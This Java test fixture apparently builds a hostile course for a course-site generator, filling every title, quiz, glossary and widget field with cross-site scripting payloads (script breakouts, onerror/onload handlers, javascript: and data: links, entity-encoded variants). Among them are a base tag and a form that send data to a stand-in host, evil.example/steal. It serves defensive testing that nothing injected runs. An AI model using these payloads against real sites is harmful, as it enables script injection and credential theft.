package io.coursegen.hostile;

import io.coursegen.testing.CourseFiles;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * A course written by an attacker: every text field that reaches a page holds {@link #TEXT} (which tries
 * to close {@code <title>}, a JSON {@code <script>} block and an attribute's quotes, and whose image has
 * an empty {@code src}, which a browser answers with the error event at once; an image naming a file
 * would be a build error in the markdown fields, whose raw HTML images are checked), and each raw-HTML
 * trick has a lesson of its own, {@code intro/<case>.html}. It must build, and nothing in it may run.
 */
public final class HostileCourse {
    /** Injected code calls alert() (a dialog) and logs {@link #MARK} (a console message). */
    public static final String MARK = "INJECTED";

    /** What every text field holds. */
    public static final String TEXT = "X </title><script>alert(1);console.log('" + MARK + "')</script>"
            + " </script><script>alert(2);console.log('" + MARK + "')</script>"
            + " \"><img src onerror=\"alert(3);console.log('" + MARK + "')\">";

    /** Raw HTML that authors may paste into a lesson body, by case name (the lesson slug). */
    public static final Map<String, String> RAW_HTML = new LinkedHashMap<>();

    /**
     * Raw HTML links whose URL the checks refuse (issue 16: raw HTML gets markdown's link checks), so a
     * course holding one never builds; {@code Hostile_RawHtmlCheckTest} holds each to its error.
     */
    public static final Map<String, String> REFUSED_RAW_HTML = new LinkedHashMap<>();

    static {
        String js = "alert(1);console.log('" + MARK + "')";
        RAW_HTML.put("script", "<script>" + js + "</script>");
        RAW_HTML.put("img-onerror", "<img src=x onerror=\"" + js + "\">");
        RAW_HTML.put("svg-onload", "<svg onload=\"" + js + "\"><circle r=1 /></svg>");
        RAW_HTML.put("iframe-srcdoc", "<iframe srcdoc=\"<script>" + js + "</script>\"></iframe>");
        RAW_HTML.put("base-href", "<base href=\"https://evil.example/\">");
        RAW_HTML.put("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + js + "\">");
        RAW_HTML.put("form-action", "<form action=\"https://evil.example/steal\"><input name=a><button>Go</button></form>");
        REFUSED_RAW_HTML.put("href-javascript", "<a href=\"javascript:" + js + "\">click</a>");
        REFUSED_RAW_HTML.put("href-mixed-case", "<a href=\"JaVaScRiPt:" + js + "\">click</a>");
        REFUSED_RAW_HTML.put("href-entity", "<a href=\"java&#115;cript:" + js + "\">click</a>");
        REFUSED_RAW_HTML.put("href-control-char", "<a href=\"&#1;javascript:" + js + "\">click</a>");
        REFUSED_RAW_HTML.put("href-data-html", "<a href=\"data:text/html,<script>" + js + "</script>\">click</a>");
        REFUSED_RAW_HTML.put("href-vbscript", "<a href=\"vbscript:msgbox(1)\">click</a>");
        RAW_HTML.put("title-breakout", "<p><abbr title='x\" onmouseover=\"alert(1)\" y=\"'>hover</abbr></p>");
        RAW_HTML.put("link-title-breakout", "[click](01-fields.md \"x\\\" onmouseover=\\\"" + js + "\") ![img](01-fields.md \"y\\\" onerror=\\\"" + js + "\")");
        RAW_HTML.put("object-embed", "<object data=\"x.swf\"></object><embed src=\"x.swf\">");
        RAW_HTML.put("style-tag", "<style>body{background:url(javascript:" + js + ")}</style>");
    }

    private HostileCourse() {}

    private static String q(String s) {
        return "'" + s.replace("'", "''") + "'";
    }

    /** Writes the course under {@code root}; returns {@code root}. */
    public static Path write(Path root) {
        String t = q(TEXT);
        StringBuilder spec = new StringBuilder();
        spec.append("-- content/course.yaml --\n")
                .append("title: ").append(t).append('\n')
                .append("description: ").append(t).append('\n')
                .append("sources:\n  a.txt: ").append(t).append('\n')
                .append("answer-sets:\n  approaches:\n    - id: rag\n      label: ").append(t)
                .append("\n    - id: ft\n      label: Fine-tuning\n");
        spec.append("-- content/01-intro/module.yaml --\ntitle: ").append(t).append("\nsummary: ").append(t).append('\n');
        spec.append("-- content/01-intro/01-fields.md --\n---\ntitle: ").append(t).append("\nsummary: ").append(t)
                .append("\ntags: [").append(t).append("]\nobjectives:\n  - ").append(t)
                .append("\nsources: [a.txt]\nquiz: q\n---\n").append("Fields reach every place.\n\n{{tree t}}\n\n{{calculator p}}\n");
        int n = 2;
        for (Map.Entry<String, String> e : RAW_HTML.entrySet()) {
            spec.append(String.format("-- content/01-intro/%02d-%s.md --%n", n++, e.getKey()))
                    .append("---\ntitle: Case ").append(e.getKey()).append("\nsummary: S\n---\nBefore\n\n")
                    .append(e.getValue()).append("\n\nAfter\n");
        }
        // The file the img-onerror case names, so that case is about its onerror and not a missing image.
        spec.append("-- content/01-intro/x --\nnot an image\n");
        spec.append("-- quizzes/q.yaml --\n")
                .append("id: q\ntitle: ").append(t).append("\nintro: ").append(t).append("\nshuffle: false\nquestions:\n")
                .append("  - id: q-single\n    type: single\n    prompt: ").append(t).append("\n    explanation: ").append(t)
                .append("\n    options:\n      - text: ").append(t).append("\n        correct: true\n        feedback: ").append(t)
                .append("\n      - text: Other\n        feedback: ").append(t).append("\n        misconception: ").append(t).append('\n')
                .append("  - id: q-short\n    type: short\n    prompt: P\n    answers: [").append(t).append("]\n")
                .append("  - id: q-numeric\n    type: numeric\n    prompt: P\n    answer: 1\n    unit: ").append(t).append('\n')
                .append("  - id: q-order\n    type: ordering\n    prompt: P\n    items:\n      - text: ").append(t).append("\n      - text: Second\n")
                .append("  - id: q-scenario\n    type: scenario\n    prompt: P\n    answer-set: approaches\n    answer: rag\n    feedback:\n      ft: ")
                .append(t).append("\n    misconceptions:\n      ft: ").append(t).append('\n')
                .append("  - id: q-tf\n    type: true-false\n    prompt: P\n    answer: true\n    feedback:\n      \"false\": ").append(t).append('\n')
                .append("checks:\n  - name: all right\n    responses: {q-single: a, q-short: x, q-numeric: 1, q-order: [a, b], q-scenario: rag, q-tf: true}\n")
                .append("    score: 0.833333333333\n");
        spec.append("-- content/widgets/decision-trees/t.yaml --\n")
                .append("id: t\ntitle: ").append(t).append("\nintro: ").append(t).append("\nstart: a\nnodes:\n  a:\n    question: ").append(t)
                .append("\n    help: ").append(t).append("\n    answers:\n      - label: ").append(t).append("\n        next: b\n      - label: Other\n        next: c\n")
                .append("  b:\n    verdict: rag\n    title: ").append(t).append("\n    explanation: ").append(t)
                .append("\n    lessons:\n      - content/01-intro/01-fields.md\n")
                .append("  c:\n    verdict: prompting\n    title: Prompt\n    explanation: E\n    lessons:\n      - content/01-intro/02-script.md\n");
        spec.append("-- content/widgets/cost-presets.yaml --\n")
                .append("- id: p\n  title: ").append(t).append("\n  prices-as-of: 2024-07-24\n  description: ").append(t)
                .append("\n  requests-per-day: 100\n  input-tokens: 10\n  prompted: {prompt-tokens: 5, input-price-per-million: 1}\n")
                .append("  fine-tuned: {prompt-tokens: 1, input-price-per-million: 1}\n");
        // The glossary term "Fields" is mentioned first in 01-fields.md, so its popover carries the definition.
        spec.append("-- content/glossary/fields.md --\n---\nterm: Fields\naliases: [").append(t).append("]\ndefinition: ").append(t)
                .append("\ntags: [").append(t).append("]\n---\n").append("Body before.\n\n").append(TEXT).append("\n");
        spec.append("-- content/exercises/e.yaml --\n")
                .append("id: e\ntitle: ").append(t).append("\nintro: ").append(t).append("\ntags: [").append(t).append("]\nscenarios:\n")
                .append("  - id: e-one\n    title: ").append(t).append("\n    scenario: ").append(t)
                .append("\n    answers:\n      - choice: rag\n        why: ").append(t)
                .append("\n    rubric:\n      - id: r\n        point: ").append(t).append("\n        explanation: ").append(t)
                .append("\n    model-answer: ").append(t).append("\n    hints:\n      - ").append(t).append('\n');
        return CourseFiles.write(root, spec.toString());
    }
}
